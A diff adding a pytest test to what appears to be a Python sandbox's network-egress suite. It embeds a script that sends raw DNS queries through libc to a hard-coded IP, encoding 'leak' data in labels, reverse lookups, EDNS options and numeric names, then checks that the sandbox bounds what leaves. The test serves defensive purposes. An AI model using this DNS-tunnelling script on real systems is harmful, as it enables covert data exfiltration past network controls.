@@ -251,3 +251,52 @@ if __name__ == "__main__":
         "net=ALLOW|TCP|s3cret.evil.test|8443|OUT",
     ], errors
     assert "s3cret.evil.test" not in names
+
+
+LEAK = """\
+import ctypes, socket, struct
+libc = ctypes.CDLL(None, use_errno=True)
+SERVER = struct.pack('=H', socket.AF_INET) + struct.pack('!H4s8x', 53, socket.inet_aton('93.184.216.35'))
+def name(labels):
+    return b''.join(bytes([len(l)]) + l for l in labels.split(b'.')) + b'\\0'
+def send(message):
+    fd = libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0)
+    libc.sendto(fd, message, len(message), 0, SERVER, len(SERVER))
+    libc.poll(struct.pack('=ihh', fd, 1, 0), 1, 1000)
+    libc.close(fd)
+def query(labels, kind=1, more=b''):
+    return struct.pack('!6H', 7, 0x100, 1, 0, 0, bool(more)) + name(labels) + struct.pack('!2H', kind, 1) + more
+for n in range(60):
+    send(query(b'leak%02d' % n + b'x' * 50 + b'.example.com'))
+send(query(b'leaknumber.3405803777'))
+send(query(b'3405803777'))
+send(query(b'leak.34.216.184.93.in-addr.arpa', 12))
+send(query(b'1.2.3.4.in-addr.arpa', 12))
+option = struct.pack('!2H', 65001, 8) + b'leakedns'
+send(query(b'www.example.com', 1, b'\\0' + struct.pack('!HHIH', 41, 1232, 0, len(option)) + option))
+send(query(b'WwW.eXaMpLe.CoM'))
+send(query(b'www.example.com')[:12] + b'\\xc0\\x0c' + struct.pack('!2H', 1, 1))
+send(query(b'leak.example.com', 16))
+send(query(b'leak.www.example.com.leak'))
+print('END')
+"""
+
+
+@pytest.mark.parametrize("mode", ["bare", *MODES])
+def test_what_leaves_below_a_domain_is_bounded(arranged: Place, mode: str) -> None:
+    """Bare, all of it leaves. In the sandbox: names below the domain within the budget, none of the rest."""
+    script = arranged.file("leak.py", LEAK)
+    if mode == "bare":
+        out, names, errors = run(arranged, arranged.bin / "python", script)
+        assert "END" in out, errors
+        assert sum(name.startswith("leak") for name in names) > 60
+        return
+    arranged.environment["PYSANDBOXES_NETWORK"] = mode
+    arranged.profile(RULES)
+    out, names, errors = run(arranged, *arranged.command(script))
+    assert "END" in out, errors
+    left = {name for name in names if "leak" in name}
+    assert all(name.startswith("leak") and name.endswith("x.example.com") for name in left), left
+    assert 5 <= len(left) <= 1024 // 56, left
+    assert not any("arpa" in name or "34058" in name for name in names), names
+    assert set(names) - left <= {"www.example.com", "db.corp.example", "db", "moves.example.org"}, names
